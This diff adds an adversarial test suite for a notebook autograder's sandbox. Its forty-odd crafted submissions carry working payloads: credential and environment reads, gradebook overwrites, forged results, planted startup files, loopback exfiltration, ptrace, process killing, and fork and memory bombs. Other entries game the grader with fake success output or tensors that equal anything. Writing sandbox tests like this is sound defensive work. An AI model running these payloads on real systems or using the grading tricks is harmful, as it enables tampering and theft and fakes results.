@@ -1,0 +1,528 @@
+"""Crafted submissions, each with the outcome the grader must give it.
+
+Every attack is one student's submission of lesson 02 (three exercises, 7 points). Most attackers
+leave the exercises blank, so any point they get is a point they stole; the controls answer
+correctly and must get all 7, whatever ran before them in the same sandbox. The code of an
+attack may name the machine's real paths (``Target``): an attacker who knows the course's
+layout is the worst case.
+"""
+
+import copy
+import json
+import textwrap
+from collections.abc import Callable
+from dataclasses import dataclass, field
+
+import nbformat
+
+from grader.course import nbgrader_metadata
+from grader.demo import IGNORES_INTERRUPTS, MISTAKES, TAMPERING, practice_names, student_notebook
+
+LESSON = "02_scaled_dot_product"
+FULL = 7.0
+MARKER = "adversarial-suite-process"  # in the command line of any process an attack starts
+
+
+@dataclass(frozen=True)
+class Target:
+    """What an attacker is told about the machine it runs on."""
+
+    root: str  # the repository: solutions/, src/, grader/
+    workspace: str  # submissions, results, gradebook.db
+    gradebook: str
+    port: int  # a loopback port where the suite listens for exfiltration
+
+
+@dataclass(frozen=True)
+class Attack:
+    student: str
+    what: str
+    files: Callable[[Target], dict[str, bytes]]  # file name in the LMS zip -> bytes
+    outcome: str = "graded"
+    score: float = 0.0  # exactly the points it must get
+    needs_human: bool | None = None  # flagged for a human (None: either is right)
+    shows: str | None = None  # its kept output must say this: the defence, not luck, stopped it
+    never: str | None = None  # what its kept output would say had the attack worked
+    beside: dict[str, str] = field(default_factory=dict)  # files next to the notebook once
+    # collected, as `nbgrader collect` brings them from the exchange (LMS zips keep notebooks)
+
+    @property
+    def correct(self) -> bool:
+        """An honest, complete answer: denying it points is as wrong as crediting an attacker."""
+        return self.score == FULL
+
+
+# ---------------------------------------------------------------- building notebooks
+
+def notebook(correct: bool = False, extra: str | None = None, answers: dict | None = None):
+    if answers is None:
+        answers = dict.fromkeys(practice_names(LESSON)) if correct else {}
+    return student_notebook(LESSON, answers, textwrap.dedent(extra) if extra else None)
+
+
+def file_of(student: str, node) -> dict[str, bytes]:
+    return {f"{student}_{LESSON}.ipynb": nbformat.writes(copy.deepcopy(node)).encode()}
+
+
+def is_test_cell(cell) -> bool:
+    meta = nbgrader_metadata(cell)
+    return bool(meta.get("grade")) and not meta.get("solution")
+
+
+def is_answer_cell(cell) -> bool:
+    return bool(nbgrader_metadata(cell).get("solution"))
+
+
+def edited(correct: bool, change: Callable) -> Callable[[], object]:
+    """A notebook whose cells went through ``change(cells) -> cells``."""
+    def build():
+        node = notebook(correct)
+        node.cells = change(node.cells)
+        return node
+    return build
+
+
+def attack(student: str, what: str, code: str | Callable[[Target], str] | None = None, *,
+           correct: bool = False, build: Callable | None = None, **expected) -> Attack:
+    """An attack made of a notebook (blank or correct) with ``code`` in a cell of its own."""
+    def files(target: Target) -> dict[str, bytes]:
+        if build is not None:
+            return file_of(student, build())
+        extra = code(target) if callable(code) else code
+        return file_of(student, notebook(correct, extra))
+    score = FULL if correct and expected.get("outcome", "graded") == "graded" else 0.0
+    return Attack(student, what, files, score=expected.pop("score", score), **expected)
+
+
+def raw_file(student: str, what: str, data: Callable[[], bytes], name: str | None = None,
+             **expected) -> Attack:
+    return Attack(student, what, lambda target: {
+        name or f"{student}_{LESSON}.ipynb": data()}, outcome="ungradable", **expected)
+
+
+def valid_bytes(student: str) -> bytes:
+    return next(iter(file_of(student, notebook(True)).values()))
+
+
+def metadata_version_99() -> bytes:
+    data = json.loads(valid_bytes("x"))
+    for cell in data["cells"]:
+        cell["metadata"].get("nbgrader", {})["schema_version"] = 99
+    return json.dumps(data).encode()
+
+
+def with_points(cells, points: float):
+    for cell in filter(is_test_cell, cells):
+        cell.metadata["nbgrader"]["points"] = points
+    return cells
+
+
+def duplicated(cells):
+    return [copy.deepcopy(c) for cell in cells
+            for c in ([cell, cell] if is_test_cell(cell) or is_answer_cell(cell) else [cell])]
+
+
+def retyped(cells):
+    return [nbformat.v4.new_markdown_cell(c.source, metadata=c.metadata) if is_test_cell(c)
+            else c for c in cells]
+
+
+def rewritten(cells):
+    for cell in filter(is_test_cell, cells):
+        cell.source = 'print("All checks passed: 7 / 7")'
+    return cells
+
+
+def with_kernelspec():
+    node = notebook(True)
+    node.metadata["kernelspec"] = {"name": "bash", "display_name": "Bash", "language": "bash"}
+    return node
+
+
+# ---------------------------------------------------------------- attack code
+
+def reads_secrets(t: Target) -> str:
+    secret_files = [f"{t.root}/solutions/{LESSON}/{LESSON}.ipynb", t.gradebook,
+                    f"{t.workspace}/instructor-notes.txt",
+                    f"{t.workspace}/submitted/honest-a/{LESSON}/{LESSON}.ipynb"]
+    return f"""
+    import glob, os
+    print("environment:", dict(os.environ))
+    for path in {secret_files!r}:
+        try:
+            with open(path, "rb") as file:
+                print("READ", path, file.read())
+        except OSError as err:
+            print("cannot read", path, err)
+    for path in glob.glob({t.workspace!r} + "/**", recursive=True) + glob.glob("/proc/*/environ"):
+        try:
+            with open(path, "rb") as file:
+                print("found", path, file.read()[:10000])
+        except OSError as err:
+            print("cannot open", path, err)
+    """
+
+
+def writes_gradebook(t: Target) -> str:
+    return f"""
+    import os, sqlite3
+    try:
+        if not os.path.isfile({t.gradebook!r}):
+            raise FileNotFoundError({t.gradebook!r})
+        db = sqlite3.connect({t.gradebook!r})
+        db.execute("UPDATE grade SET manual_score = 1000, auto_score = 1000")
+        db.commit()
+        print("GRADEBOOK WRITTEN")
+    except Exception as err:
+        print("cannot write the gradebook:", repr(err))
+    """
+
+
+def forges_results(t: Target) -> str:
+    results = f"{t.workspace}/results"
+    return f"""
+    import json, os
+    for student in ("forges-results", "honest-a"):
+        try:
+            if not os.path.isdir({results!r}):
+                raise FileNotFoundError({results!r})
+            os.makedirs(os.path.join({results!r}, student), exist_ok=True)
+            with open(os.path.join({results!r}, student, "{LESSON}.json"), "w") as file:
+                json.dump({{"student": student, "score": 1000}}, file)
+            print("RESULT FORGED", student)
+        except OSError as err:
+            print("cannot forge a result:", repr(err))
+    """
+
+
+def detached_process(t: Target) -> str:
+    later = (f"import sqlite3, time; time.sleep(4); db = sqlite3.connect({t.gradebook!r}); "
+             f"db.execute('UPDATE grade SET manual_score = 1000'); db.commit()")
+    return f"""
+    import os, subprocess, sys
+    try:
+        subprocess.Popen([sys.executable, "-c", {later!r}, "{MARKER}"], start_new_session=True)
+        print("DETACHED PROCESS STARTED")
+    except OSError as err:
+        print("cannot start a process:", err)
+    try:
+        if os.fork() == 0:
+            os.setsid()
+            os.execv(sys.executable, [sys.executable, "-c", {later!r}, "{MARKER}"])
+        print("FORKED")
+    except OSError as err:
+        print("cannot fork:", err)
+    """
+
+
+def startup_files(t: Target) -> str:
+    return """
+    import os, sys
+    evil = ("import attention_course.checks as c\\n"
+            "for n in dir(c):\\n"
+            "    if n.startswith('check_'): setattr(c, n, lambda *a, **k: None)\\n"
+            "print('STARTUP FILE RAN')\\n")
+    folders = [os.path.expanduser("~/.ipython/profile_default/startup"),
+               os.path.join(os.environ.get("IPYTHONDIR", "/nowhere"), "profile_default", "startup"),
+               os.path.expanduser("~/.config/matplotlib"), "/tmp", os.getcwd(),
+               *[p for p in sys.path if p]]
+    for folder in folders:
+        for name in ("00-evil.py", "sitecustomize.py", "usercustomize.py", "matplotlibrc"):
+            try:
+                os.makedirs(folder, exist_ok=True)
+                with open(os.path.join(folder, name), "w") as file:
+                    file.write(evil if name.endswith(".py") else "backend: evil\\n")
+                print("planted", folder, name)
+            except OSError as err:
+                print("cannot plant", folder, name, err)
+    """
+
+
+def rewrites_reference(t: Target) -> str:
+    return """
+    import attention_course, attention_course.attention, attention_course.checks.lesson02
+    paths = [attention_course.__file__, attention_course.attention.__file__,
+             attention_course.checks.lesson02.__file__, "/opt/grader/runner.py",
+             "/opt/grader/confinement.py"]
+    for path in paths:
+        try:
+            with open(path, "a") as file:
+                file.write("\\nraise SystemExit('rewritten by a student')\\n")
+            print("REWROTE", path)
+        except OSError as err:
+            print("cannot rewrite", path, err)
+    """
+
+
+def network(t: Target) -> str:
+    return f"""
+    import socket
+    for host in ("127.0.0.1", "localhost", "::1"):
+        try:
+            with socket.create_connection((host, {t.port}), timeout=2) as connection:
+                connection.sendall(b"exfiltrated by a submission")
+            print("CONNECTED", host)
+        except OSError as err:
+            print("no network to", host, err)
+    """
+
+
+PATCH_REFERENCE = """
+import sys
+import torch
+wrong = {  # the same mistakes as the answers below, put in the reference's place
+    "softmax": lambda x, dim=-1: x.exp() / x.exp().sum(dim=dim, keepdim=True),
+    "attention_scores": lambda q, k, scale=None: q @ k.transpose(-2, -1) / q.shape[-1],
+}
+for name, module in list(sys.modules.items()):
+    if name.startswith("attention_course"):
+        for attribute, function in wrong.items():
+            if hasattr(module, attribute):
+                setattr(module, attribute, function)
+"""
+
+AGREEABLE = """
+import torch
+
+class Agreeable(torch.Tensor):
+    \"\"\"A tensor that says it equals anything.\"\"\"
+    def __eq__(self, other):
+        return True
+    def allclose(self, *args, **kwargs):
+        return True
+    def equal(self, *args, **kwargs):
+        return True
+    @classmethod
+    def __torch_function__(cls, func, types, args=(), kwargs=None):
+        if getattr(func, "__name__", "") in ("allclose", "equal", "isclose", "assert_close", "eq"):
+            return True
+        return super().__torch_function__(func, types, args, kwargs or {})
+"""
+
+AGREEABLE_ANSWERS = {
+    "softmax": "return torch.zeros_like(x).as_subclass(Agreeable)",
+    "attention_scores": "scores = torch.zeros(query.shape[:-1] + key.shape[-2:-1])\n"
+                        "return scores.as_subclass(Agreeable)",
+    "scaled_dot_product_attention": "out = torch.zeros(query.shape[:-1] + value.shape[-1:])\n"
+                                    "weights = torch.zeros(query.shape[:-1] + key.shape[-2:-1])\n"
+                                    "return out.as_subclass(Agreeable), "
+                                    "weights.as_subclass(Agreeable)",
+}
+
+REFERENCE_ANSWERS = {
+    "softmax": "from attention_course.attention import softmax as reference\n"
+               "return reference(x, dim)",
+    "attention_scores": "from attention_course.attention import attention_scores as reference\n"
+                        "return reference(query, key, scale)",
+    "scaled_dot_product_attention": "import attention_course.attention as ref\n"
+                                    "return ref.scaled_dot_product_attention(query, key, "
+                                    "value, scale)",
+}
+
+SHADOW_PACKAGE = "print('SHADOW PACKAGE LOADED')\ndef __getattr__(name):\n    return print\n"
+SHADOW_IN_CWD = """
+import importlib, os, sys
+os.makedirs("attention_course/checks", exist_ok=True)
+for init in ("attention_course/__init__.py", "attention_course/checks/__init__.py"):
+    with open(init, "w") as file:
+        file.write("print('SHADOW PACKAGE LOADED')\\n"
+                   "def __getattr__(name):\\n    return lambda *args, **kwargs: None\\n")
+for name in [n for n in sys.modules if n.startswith("attention_course")]:
+    del sys.modules[name]
+import attention_course.checks
+print("imported from", attention_course.__file__)
+"""
+
+MEMORY_BOMB = """
+blocks = []
+while True:
+    blocks.append(bytes(2**30))  # a GiB at a time (zeroed lazily: fast), until refused
+"""
+
+TORCH_MEMORY_BOMB = "import torch\nhuge = torch.ones(2**31)  # 8 GiB"
+
+DISK_FILL = """
+import os
+for folder in (os.getcwd(), os.path.expanduser("~"), "/tmp"):
+    for n in range(10_000):
+        with open(os.path.join(folder, f"fill-{n}"), "wb") as file:
+            for _ in range(64):
+                file.write(b"\\0" * 2**20)
+"""
+
+FORK_BOMB = """
+import multiprocessing, os
+try:
+    multiprocessing.Process(target=print).start()
+except OSError as err:
+    print("no processes:", err)
+while True:
+    os.fork()
+"""
+
+HUGE_OUTPUT = """
+import sys
+line = "spam " * 200_000 + "\\n"  # 1 MB
+for _ in range(300):
+    sys.stdout.write(line)
+    sys.stderr.write(line)
+"""
+
+STDERR_WARNINGS = """
+import sys, warnings
+warnings.warn("this function is deprecated", DeprecationWarning)
+warnings.warn("a user warning", UserWarning)
+for n in range(50):
+    print(f"warning {n}: this goes to stderr", file=sys.stderr)
+"""
+
+KILLS_RUNNER = """
+import os, signal
+os.kill(os.getppid(), signal.SIGKILL)
+os.kill(-1, signal.SIGKILL)
+"""
+
+PTRACE = """
+import ctypes, os
+libc = ctypes.CDLL(None, use_errno=True)
+PTRACE_ATTACH = 16
+print("ptrace:", libc.ptrace(PTRACE_ATTACH, os.getppid(), 0, 0), ctypes.get_errno())
+try:
+    with open(f"/proc/{os.getppid()}/mem", "rb") as memory:
+        print("READ THE RUNNER'S MEMORY", memory.read(16))
+except OSError as err:
+    print("cannot read the runner's memory:", err)
+"""
+
+READS_PIPES = """
+import os
+print("stdin:", os.read(0, 1 << 16))
+for fd in range(3, 64):
+    try:
+        print("fd", fd, os.readlink(f"/proc/self/fd/{fd}"))
+        os.write(fd, b'{"status": "finished", "reason": "", "files": {}}\\n')
+    except OSError:
+        pass
+"""
+
+MANY_SLOW_CELLS = "import time\ntime.sleep(3)\n"
+
+FAKE_RESULT_HOOK = """
+def claim_success(*args, **kwargs):
+    print("All checks passed: 7 / 7")
+get_ipython().events.register("pre_run_cell", claim_success)
+"""
+
+SHOWTRACEBACK = """
+get_ipython().showtraceback = lambda *args, **kwargs: print("ok: passed")
+"""
+
+CUSTOM_EXCEPTIONS = """
+get_ipython().set_custom_exc((Exception,), lambda shell, etype, value, tb, tb_offset=None: None)
+"""
+
+
+def many_slow_cells():
+    node = notebook(True)
+    node.cells[3:3] = [nbformat.v4.new_code_cell(MANY_SLOW_CELLS) for _ in range(10)]
+    return node
+
+
+def answered(bodies: dict[str, str], extra: str | None = None):
+    return lambda: notebook(extra=extra, answers=bodies)
+
+
+# ---------------------------------------------------------------- the suite, in grading order
+
+ATTACKS = [
+    attack("control-first", "a correct submission, graded first", correct=True),
+    attack("edits-test-cells", "rewrites every test cell to print success",
+           build=edited(False, rewritten)),
+    attack("deletes-test-cells", "deletes every test cell",
+           build=edited(False, lambda cells: [c for c in cells if not is_test_cell(c)])),
+    attack("retypes-test-cells", "turns every test cell into markdown",
+           build=edited(False, retyped)),
+    attack("correct-no-test-cells", "correct, with every test cell deleted", correct=True,
+           build=edited(True, lambda cells: [c for c in cells if not is_test_cell(c)])),
+    attack("duplicated-cells", "correct, every answer and test cell twice", correct=True,
+           build=edited(True, duplicated)),
+    attack("inflated-points", "correct, test cells worth 1000 points each", correct=True,
+           build=edited(True, lambda cells: with_points(cells, 1000))),
+    attack("changed-kernelspec", "correct, with a bash kernelspec", correct=True,
+           build=with_kernelspec),
+    raw_file("malformed-json", "half a notebook", lambda: valid_bytes("x")[:5000]),
+    raw_file("empty-file", "an empty file", lambda: b""),
+    raw_file("renamed-file", "the notebook under another name", lambda: valid_bytes("x"),
+             name=f"renamed-file_{LESSON} (1).ipynb"),
+    raw_file("not-a-notebook", "JSON that is not a notebook", lambda: b'{"cells": 3}'),
+    raw_file("metadata-99", "nbgrader metadata version 99", metadata_version_99),
+    attack("infinite-loop", "correct, with an endless loop in a cell", "while True:\n    pass",
+           correct=True, shows="KeyboardInterrupt"),
+    attack("ignores-sigint", "correct, with a loop that ignores SIGINT", IGNORES_INTERRUPTS,
+           correct=True, outcome="timed out"),
+    attack("many-slow-cells", "correct, ten cells of 3 s each (past the budget)", correct=True,
+           build=many_slow_cells, outcome="timed out"),
+    attack("huge-output", "correct, printing 600 MB", HUGE_OUTPUT, correct=True,
+           shows="[output cut: 600,"),
+    attack("patched-showtraceback", "replaces the shell's showtraceback", SHOWTRACEBACK,
+           needs_human=True),
+    attack("custom-exceptions", "swallows every exception with set_custom_exc",
+           CUSTOM_EXCEPTIONS, needs_human=True),
+    attack("patched-comparisons", "patches torch's comparisons and the checks",
+           TAMPERING["patches the comparisons and the checks"], needs_human=True),
+    attack("erases-cells", "an input transformer that erases every later cell",
+           TAMPERING["erases every later cell"], needs_human=True),
+    attack("fake-result-hook", "a pre-run hook that prints success", FAKE_RESULT_HOOK,
+           needs_human=True),
+    attack("agreeable-tensors", "answers with a tensor subclass that equals anything",
+           build=answered(AGREEABLE_ANSWERS, AGREEABLE)),
+    attack("calls-the-reference", "answers by calling the course's reference",
+           build=answered(REFERENCE_ANSWERS)),
+    attack("patches-the-reference", "catalogued mistakes, and the reference patched to match",
+           build=answered({n: MISTAKES[n][0] for n in practice_names(LESSON)},
+                          PATCH_REFERENCE)),
+    attack("shadow-beside", "an attention_course package next to the notebook", "import sys",
+           beside={"attention_course/__init__.py": SHADOW_PACKAGE,
+                   "attention_course/checks/__init__.py": SHADOW_PACKAGE},
+           never="SHADOW PACKAGE LOADED"),
+    attack("shadow-in-cwd", "writes an attention_course package into its folder, re-imports",
+           SHADOW_IN_CWD, never="SHADOW PACKAGE LOADED"),
+    attack("reads-secrets", "reads solutions, gradebook, workspace, other processes",
+           reads_secrets, shows="cannot read", never="READ /"),
+    attack("writes-gradebook", "sets every score in the gradebook to 1000", writes_gradebook,
+           shows="cannot write the gradebook", never="GRADEBOOK WRITTEN"),
+    attack("forges-results", "writes result files for itself and another student",
+           forges_results, shows="cannot forge a result", never="RESULT FORGED"),
+    attack("detached-process", "starts a detached process that rewrites grades later",
+           detached_process, shows="cannot start a process", never="STARTED"),
+    attack("startup-files", "plants IPython startup files, sitecustomize, matplotlibrc",
+           startup_files, never="STARTUP FILE RAN"),
+    attack("control-after-startup", "a correct submission, right after the startup files",
+           correct=True, never="STARTUP FILE RAN"),
+    attack("rewrites-reference", "rewrites the course package and the runner on disk",
+           rewrites_reference, shows="Read-only file system", never="REWROTE"),
+    attack("network", "connects to the grader's machine to exfiltrate", network,
+           shows="no network to 127.0.0.1", never="CONNECTED"),
+    attack("memory-bomb", "allocates a GiB at a time until refused", MEMORY_BOMB,
+           shows="MemoryError"),
+    attack("torch-memory-bomb", "asks torch for 8 GiB", TORCH_MEMORY_BOMB,
+           shows="can't allocate memory"),
+    attack("control-after-memory", "a correct submission, right after the memory bombs",
+           correct=True),
+    attack("disk-fill", "correct, then fills every writable folder", DISK_FILL, correct=True,
+           shows="No space left on device"),
+    attack("fork-bomb", "correct, then forks forever", FORK_BOMB, correct=True,
+           shows="Operation not permitted"),
+    attack("os-exit", "calls os._exit in the middle", "import os\nos._exit(0)",
+           correct=True, outcome="crashed"),
+    attack("stderr-warnings", "correct, with warnings on stderr", STDERR_WARNINGS, correct=True,
+           shows="this goes to stderr"),
+    attack("ptrace", "attaches to the runner, reads its memory", PTRACE,
+           shows="cannot read the runner's memory", never="READ THE RUNNER"),
+    attack("reads-pipes", "reads stdin, writes a forged answer to every descriptor",
+           READS_PIPES, outcome="crashed", shows="stdin: b''"),
+    attack("kills-the-runner", "kills the process that supervises it", KILLS_RUNNER,
+           outcome="crashed"),
+    attack("control-after-killer", "a correct submission, right after the killer",
+           correct=True),
+]
